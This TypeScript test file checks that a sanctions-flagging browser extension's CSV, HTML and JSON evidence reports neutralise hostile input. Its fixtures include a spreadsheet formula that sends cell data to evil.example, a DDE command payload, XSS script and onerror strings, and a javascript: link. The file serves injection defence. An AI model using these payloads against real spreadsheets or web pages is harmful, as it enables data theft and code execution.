import { describe, expect, test } from 'vitest';
import type { Entry, ListDefinition } from '../list/format.ts';
import { buildCsvReport, csvField } from './csv-report.ts';
import { buildHtmlReport, escapeHtml } from './html-report.ts';
import { buildJsonReport, EVIDENCE_FORMAT } from './json-report.ts';
import type { EvidenceInput } from './types.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const lists: ListDefinition[] = [
  {
    id: 'us-fcc',
    name: 'FCC Covered List <b>',
    label: 'FCC',
    family: 'procurement-ban',
    authority: 'FCC',
    jurisdiction: 'US',
    meaningReader: 'r',
    meaningBuyer: 'No new equipment authorisations; =cmd',
    url: 'https://www.fcc.gov/supplychain',
  },
];

const entities: Entry[] = [
  {
    id: 'hikvision',
    kind: 'company',
    names: [{ text: 'Hikvision "<script>alert(1)</script>"', type: 'legal' }],
    countries: ['CN'],
    domains: [],
    parents: [],
    listings: [
      {
        list: 'us-fcc',
        status: 'in_force',
        dateListed: '2021-03-12',
        citation: '+cmd|" /C calc"!A0',
        sourceUrl: 'https://www.fcc.gov/supplychain/coveredlist',
      },
      { list: 'us-other', status: 'revoked', sourceUrl: 'javascript:alert(1)' },
    ],
  },
];

const input: EvidenceInput = {
  page: { url: 'https://vendor.example/cams?a=1&b=2', title: HOSTILE, hostname: 'vendor.example' },
  capturedAt: '2026-11-27T23:00:00.000Z',
  extension: { name: 'Sanctions Lens', version: '0.1.0' },
  list: { version: 42, dataDate: '2026-07-31', feedHash: 'ab'.repeat(32) },
  hits: [
    {
      entityId: 'hikvision',
      text: 'Hikvision',
      confidence: 'likely',
      context: 'Buy\nHikvision "cams", <img src=x onerror=alert(1)>',
    },
    { entityId: 'hikvision', text: 'Hikvision', confidence: 'confirmed', context: '@SUM(1+1) Hikvision' },
    { entityId: 'unknown-id', text: '-2+3', confidence: 'possible', context: '-2+3' },
  ],
  entities,
  lists,
};

/** Minimal RFC 4180 reader, enough to check that quoting round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let v = '';
    i += 1;
    for (;;) {
      const j = text.indexOf('"', i);
      v += text.slice(i, j);
      i = j + 1;
      if (text[i] === '"') {
        v += '"';
        i += 1;
      } else break;
    }
    row.push(v);
    if (text[i] === ',') i += 1;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

describe('CSV report', () => {
  test('formula-looking values are defused, quotes doubled, newlines kept inside quotes', () => {
    expect(csvField(HOSTILE)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    for (const s of ['+1', '-1', '@x', '\tx', '\rx', '＝1']) expect(csvField(s).startsWith(`"'`)).toBe(true);
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('Huawei')).toBe('"Huawei"');
  });

  test('one row per mention and listing, metadata on every row, round-trips through a CSV reader', () => {
    const text = buildCsvReport(input);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    const [header, ...body] = rows;
    expect(header?.[0]).toBe('captured_at');
    expect(body).toHaveLength(2 * 2 + 1);
    for (const r of body) {
      expect(r).toHaveLength(header!.length);
      expect(r[1]).toBe(input.page.url);
      expect(r[2]).toBe(`'${HOSTILE}`);
      expect(r[6]).toBe('ab'.repeat(32));
    }
    expect(body[0]?.[11]).toBe(input.hits[0]!.context);
    expect(body[0]?.[18]).toBe(`'+cmd|" /C calc"!A0`);
    expect(header?.at(-3)).toBe('list_data_age_days');
    expect(body[0]?.at(-3)).toBe('119');
    expect(body[2]?.[11]).toBe(`'@SUM(1+1) Hikvision`);
    expect(body[4]?.[7]).toBe('unknown-id');
    expect(body[4]?.[9]).toBe(`'-2+3`);
    expect(body[0]?.[20]).toBe('No new equipment authorisations; =cmd');
    for (const cell of body.flat()) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });
});

describe('HTML report', () => {
  const html = buildHtmlReport(input);
  test('page and list text cannot inject markup or script', () => {
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b>');
    expect(html).toContain('Hikvision &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toMatch(/href="javascript:/i);
    expect(html).toContain("default-src 'none'");
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
    expect(escapeHtml(`'"&<>`)).toBe('&#39;&quot;&amp;&lt;&gt;');
  });
  test('records URL, time, versions, hash, listings with citations and links, and marked mentions', () => {
    expect(html).toContain('<a href="https://vendor.example/cams?a=1&amp;b=2"');
    expect(html).toContain('2026-11-27T23:00:00.000Z');
    expect(html).toContain('Sanctions Lens 0.1.0');
    expect(html).toContain('ab'.repeat(32));
    expect(html).toContain('<a href="https://www.fcc.gov/supplychain/coveredlist"');
    expect(html).toContain('+cmd|&quot; /C calc&quot;!A0');
    expect(html).toContain('Revoked');
    expect(html).toContain('No new equipment authorisations; =cmd');
    expect(html).toContain('Buy\n<mark>Hikvision</mark> &quot;cams&quot;');
  });
  test('a page without hits says so', () => {
    expect(buildHtmlReport({ ...input, hits: [] })).toContain('No restricted names were flagged');
  });
});

describe('JSON report', () => {
  test('parses back with metadata, grouped entities and every hit', () => {
    const r = JSON.parse(buildJsonReport(input));
    expect(r.format).toBe(EVIDENCE_FORMAT);
    expect(r.page.title).toBe(input.page.title);
    expect(r.list).toEqual({ ...input.list, dataAgeDays: 119 });
    expect(r.summary).toEqual({ entities: 2, mentions: 3, isSiteListed: false });
    expect(r.site).toBeNull();
    expect(r.entities[0]).toMatchObject({ id: 'hikvision', confidence: 'confirmed', mentionCount: 2 });
    expect(r.entities[0].listings[0]).toMatchObject({ listName: 'FCC Covered List <b>', authority: 'FCC' });
    expect(r.hits[0].context).toBe(input.hits[0]!.context);
  });
});

describe('site finding (the site belongs to a listed entity)', () => {
  const dahua: Entry = {
    id: 'company-dahua',
    kind: 'company',
    names: [{ text: 'Zhejiang Dahua Technology Co., Ltd.', type: 'legal' }],
    countries: ['CN'],
    domains: ['dahuasecurity.com'],
    parents: [],
    listings: [{ list: 'us-fcc', status: 'in_force', dateListed: '2021-03-12' }],
  };
  const onSite: EvidenceInput = {
    ...input,
    page: { url: 'https://dahuasecurity.com/products', title: 'Cameras', hostname: 'dahuasecurity.com' },
    site: { entityId: 'company-dahua' },
    entities: [...entities, dahua],
  };
  const t = (key: string, ...subs: (string | number)[]) => `${key}(${subs.join(',')})`;

  test('JSON records who the site belongs to, first among the entities, even without mentions', () => {
    const r = JSON.parse(buildJsonReport(onSite, t));
    expect(r.site).toEqual({
      hostname: 'dahuasecurity.com',
      belongsTo: { entityId: 'company-dahua', entityName: 'Zhejiang Dahua Technology Co., Ltd.' },
    });
    expect(r.summary.isSiteListed).toBe(true);
    expect(r.entities[0]).toMatchObject({ id: 'company-dahua', isSiteOwner: true, mentionCount: 0 });
    expect(r.entities[0].listings[0].plain).toBe('plainFamily_procurement_ban()');
  });

  test('CSV has a site_owner row per listing of the owner, before the mentions', () => {
    const rows = parseCsv(buildCsvReport(onSite, t).slice(1));
    const [header, first] = rows;
    expect(header?.slice(-2)).toEqual(['finding', 'plain_language']);
    expect(first?.[7]).toBe('company-dahua');
    expect(first?.[9]).toBe('dahuasecurity.com');
    expect(first?.at(-2)).toBe('site_owner');
    expect(rows.filter((r) => r.at(-2) === 'mention')).toHaveLength(5);
  });

  test('HTML states the finding in words, has a language and a main landmark, and no internal ids', () => {
    const html = buildHtmlReport(onSite, undefined, t, 'zh-CN');
    expect(html).toContain('<html lang="zh-CN">');
    expect(html).toContain('<main>');
    expect(html).toContain(
      'This site belongs to Zhejiang Dahua Technology Co., Ltd., which is on a government',
    );
    expect(html).not.toContain('company-dahua');
    expect(buildHtmlReport(input)).not.toContain('This site belongs to');
  });
});

test('formulas behind white space, control or invisible characters are defused too', () => {
  const leads = [' ', '  ', '\u00a0', '\n', '\r\n', '\u3000', '\u200b', '\ufeff', '\u0000', ' \u00a0\n'];
  for (const lead of leads)
    for (const f of ['=1+1', '+1', '-1', '@SUM(A1)', '＝1'])
      expect(csvField(`${lead}${f}`), JSON.stringify(lead + f)).toMatch(/^"'/);
  expect(csvField(' plain text')).toBe('" plain text"');
  expect(csvField('\u00a0Huawei')).toBe('"\u00a0Huawei"');
});

describe('list texts in the reader’s language', () => {
  const zhLists: ListDefinition[] = [
    {
      ...(lists[0] as ListDefinition),
      zh: {
        name: '受管制清单',
        label: 'FCC清单',
        meaningReader: '读者',
        meaningBuyer: '不再获得新的设备授权',
      },
    },
  ];

  test('a Chinese report takes the list’s Chinese name and meaning; an English one keeps the English', () => {
    const zh = buildHtmlReport({ ...input, lists: zhLists, language: 'zh' });
    expect(zh).toContain('受管制清单');
    expect(zh).toContain('不再获得新的设备授权');
    const en = buildHtmlReport({ ...input, lists: zhLists });
    expect(en).not.toContain('受管制清单');
    expect(en).toContain('FCC Covered List &lt;b&gt;');
  });
});
